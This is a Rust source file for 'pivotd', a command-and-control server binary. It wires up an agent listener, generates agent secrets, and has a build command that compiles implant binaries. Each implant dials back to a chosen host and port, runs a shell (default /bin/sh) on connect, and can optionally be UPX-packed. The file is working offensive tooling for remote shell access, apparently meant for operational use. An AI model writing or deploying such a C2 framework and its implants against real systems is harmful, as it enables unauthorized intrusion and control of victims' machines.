//! pivotd — control server binary: CLI wiring around the library crate
//! (SPEC_FULL.md §0, §9 "Configuration").
//!
//! The HTTP admin API, relational persistence, operator authentication,
//! and terminal UI are external collaborators (spec.md §1); this binary
//! only demonstrates the in-scope transport core. Where a real deployment
//! would inject its own `AgentStore`, this binary falls back to the
//! in-memory one seeded from `--agent` flags.

use clap::{Parser, Subcommand};
use pivotd::persistence::memory::MemoryAgentStore;
use pivotd::{AgentId, AgentRecord, BuildRequest, FactoryConfig, ServerConfig};
use rand::Rng;
use std::path::PathBuf;
use std::sync::Arc;
use tracing::{error, info};
use uuid::Uuid;

#[derive(Parser)]
#[command(name = "pivotd", version, about = "C2 control server transport core")]
struct Cli {
    #[command(subcommand)]
    command: Commands,
}

#[derive(Subcommand)]
enum Commands {
    /// Run the control server's agent-facing TCP listener.
    Serve {
        /// Host to bind the agent listener on.
        #[arg(long, default_value = "0.0.0.0")]
        host: String,

        /// Port to bind the agent listener on.
        #[arg(short, long, default_value_t = ServerConfig::default().listen_port)]
        port: u16,

        /// Accepted clock skew, in seconds, on either side of the server's clock.
        #[arg(long, default_value_t = pivotd::SKEW_WINDOW_SECS)]
        skew_secs: i64,

        /// Pre-seed one agent for local testing: `name:secret` (repeatable).
        #[arg(long = "agent", value_name = "NAME:SECRET")]
        agents: Vec<String>,
    },

    /// Generate a fresh agent identity: a random ASCII secret and a new agent id.
    NewAgent {
        /// Secret length in bytes.
        #[arg(long, default_value_t = 32)]
        length: usize,
    },

    /// Compile a customized agent binary via the bundled C cross-compiler.
    BuildAgent {
        /// Agent handshake/cipher secret (ASCII).
        #[arg(long)]
        secret: String,

        /// Server host the agent dials back to.
        #[arg(long)]
        host: String,

        /// Server port the agent dials back to.
        #[arg(long)]
        port: u16,

        /// Cross-compilation target architecture (e.g. "x86_64", "aarch64").
        #[arg(long, default_value = "x86_64")]
        target_arch: String,

        /// Shell command the agent executes on connect.
        #[arg(long, default_value = "/bin/sh")]
        shell_command: String,

        /// I/O buffer size, in bytes, inside the compiled agent.
        #[arg(long, default_value_t = 4096)]
        buffer_length: u32,

        /// Post-compress the output with upx.
        #[arg(long)]
        upx: bool,

        /// Where to write the compiled binary.
        #[arg(short, long)]
        out: PathBuf,
    },
}

#[tokio::main]
async fn main() {
    tracing_subscriber::fmt()
        .with_env_filter(
            tracing_subscriber::EnvFilter::from_default_env()
                .add_directive("pivotd=info".parse().unwrap()),
        )
        .init();

    let cli = Cli::parse();

    match cli.command {
        Commands::Serve { host, port, skew_secs, agents } => {
            run_serve(host, port, skew_secs, agents).await;
        }
        Commands::NewAgent { length } => run_new_agent(length),
        Commands::BuildAgent {
            secret,
            host,
            port,
            target_arch,
            shell_command,
            buffer_length,
            upx,
            out,
        } => {
            run_build_agent(secret, host, port, target_arch, shell_command, buffer_length, upx, out).await;
        }
    }
}

async fn run_serve(host: String, port: u16, skew_secs: i64, agents: Vec<String>) {
    let store = Arc::new(MemoryAgentStore::new());
    for spec in &agents {
        let Some((name, secret)) = spec.split_once(':') else {
            error!(%spec, "--agent must be NAME:SECRET");
            std::process::exit(2);
        };
        let agent_id = AgentId(Uuid::new_v4());
        store.insert(AgentRecord {
            agent_id,
            name: name.to_string(),
            secret: secret.to_string(),
            owner_id: Uuid::new_v4(),
            last_seen: None,
            last_from: None,
        });
        info!(%agent_id, %name, "seeded agent");
    }

    let config = ServerConfig {
        listen_host: host,
        listen_port: port,
        skew_window_secs: skew_secs,
    };

    let server = pivotd::ControlServer::new(store, config);
    if let Err(err) = server.keystore.refresh().await {
        error!(%err, "initial keystore refresh failed");
        std::process::exit(1);
    }

    if let Err(err) = server.serve().await {
        error!(%err, "control server accept loop exited");
        std::process::exit(1);
    }
}

fn run_new_agent(length: usize) {
    const ALPHABET: &[u8] =
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_";
    let mut rng = rand::thread_rng();
    let secret: String = (0..length)
        .map(|_| ALPHABET[rng.gen_range(0..ALPHABET.len())] as char)
        .collect();
    let agent_id = AgentId(Uuid::new_v4());

    println!("agent_id: {agent_id}");
    println!("secret:   {secret}");
    println!("secret (hex): {}", hex::encode(secret.as_bytes()));
}

#[allow(clippy::too_many_arguments)]
async fn run_build_agent(
    secret: String,
    host: String,
    port: u16,
    target_arch: String,
    shell_command: String,
    buffer_length: u32,
    upx: bool,
    out: PathBuf,
) {
    let cfg = FactoryConfig::default();
    let req = BuildRequest {
        secret,
        host,
        port,
        target_arch,
        shell_command,
        buffer_length,
        upx_compress: upx,
        extra_args: Vec::new(),
    };

    match pivotd::factory::build(&cfg, &req).await {
        Ok(bytes) => {
            if let Err(err) = tokio::fs::write(&out, &bytes).await {
                error!(%err, path = %out.display(), "failed to write compiled agent");
                std::process::exit(1);
            }
            info!(path = %out.display(), bytes = bytes.len(), "agent binary written");
        }
        Err(err) => {
            error!(%err, "agent build failed");
            std::process::exit(1);
        }
    }
}
